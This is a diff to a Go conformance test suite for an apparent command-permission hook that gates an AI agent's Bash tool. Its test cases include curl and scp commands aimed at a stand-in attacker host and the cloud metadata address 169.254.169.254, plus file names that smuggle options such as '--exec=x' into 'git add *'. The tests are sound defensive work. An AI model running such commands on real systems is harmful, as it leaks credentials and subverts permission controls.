@@ -1,6 +1,7 @@
 package conformance
 
 import (
+	"encoding/json"
 	"strings"
 	"testing"
 
@@ -152,4 +153,33 @@ func TestKnownHosts(t *testing.T) {
 		{"scp x.evil.example:x .", "deny"}, {"curl http:169.254.169.254/x", "could"}, {"curl x:y@z@169.254.169.254/", "deny"},
 		{`curl "http://169.254.169.254/$x"`, "deny"}, {`curl "https://api.example/$x"`, "free"}, {`curl "https://$x.evil.example/"`, "free"},
 	})
+}
+
+// TestGlobOption: a pattern that may find a file named like an option is covered
+// by no pattern rule, and the disk says whether it does.
+func TestGlobOption(t *testing.T) {
+	for _, tt := range []struct {
+		command, file string
+		want          hookio.Decision
+	}{
+		{"git add *", "a.go", hookio.Allow},
+		{"git add *", "-x.go", hookio.Ask},
+		{"git add *", "--exec=x", hookio.Ask},
+		{"git add [a-z]*", "b", hookio.Allow},
+		{"touch -- -x; git add *", "a.go", hookio.Ask},
+		{"cd sub && git add *", "sub/-x", hookio.Ask},
+		{"git add src/*", "src/-x", hookio.Allow},
+		{"git add $x", "a.go", hookio.Ask},
+		{"git add * $x", "a.go", hookio.Ask},
+	} {
+		b, _ := json.Marshal(map[string]string{"command": tt.command})
+		_, v, err := Call(Setup{Tool: "Bash", Input: b, Mode: "default", Settings: map[string]string{
+			"/work/project/" + tt.file:     "",
+			"/work/project/sub/a":          "",
+			"/home/dev/.gen/settings.json": `{"permissions":{"allow":["Bash(git add:*)","Bash(touch:*)","Bash(cd:*)"]}}`,
+		}})
+		if err != nil || v.Decision != tt.want {
+			t.Errorf("%s with %s: %v, want %v (step %s: %s)", tt.command, tt.file, v.Decision, tt.want, v.Step, v.Reason)
+		}
+	}
 }
